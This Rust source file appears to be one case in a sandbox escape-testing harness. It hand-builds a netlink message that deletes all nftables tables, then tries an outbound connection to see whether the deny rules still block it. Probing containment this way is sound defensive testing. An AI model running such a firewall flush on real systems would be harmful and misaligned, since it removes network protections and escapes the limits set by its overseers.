//! Does removing all packet rules open a way?

use crate::attempt::{Attempt, Company, Severity};
use crate::field::Field;
use crate::sys;
use crate::token::Token;
use crate::tried::{NotApplicable, Tried};
use crate::wire;

pub(super) const ATTEMPT: Attempt = Attempt {
    id: "nft-flush",
    class: "kernel",
    severity: Severity::Critical,
    surface: "decision:deny/literal-address",
    company: Company::Alone,
    about: "Deletes all tables over netlink, and then connects.",
    make,
    ..Attempt::USUAL
};

fn make(_: &Field, token: &Token, tried: &mut Tried) -> Result<(), NotApplicable> {
    let kernel = [&(libc::AF_NETLINK as u16).to_ne_bytes()[..], &[0; 10]].concat();
    if let Some(socket) =
        tried.call("netlink socket", sys::socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_NETFILTER))
    {
        tried.call("flush", sys::send_to(&socket, &flush(), &kernel));
    }
    tried.call("connect and send", wire::deliver(token.tcp()?, token.bytes()));
    Ok(())
}

/// A batch of one message: delete the tables of all families.
fn flush() -> Vec<u8> {
    let message = |kind: u16, resource: u16| {
        let flags = libc::NLM_F_REQUEST as u16;
        let head = [&20_u32.to_ne_bytes()[..], &kind.to_ne_bytes(), &flags.to_ne_bytes(), &[0; 8], &[0, 0]].concat();
        [head, resource.to_be_bytes().to_vec()].concat()
    };
    let (nftables, delete_table) = (10, 2);
    [message(16, nftables), message(nftables << 8 | delete_table, 0), message(17, nftables)].concat()
}
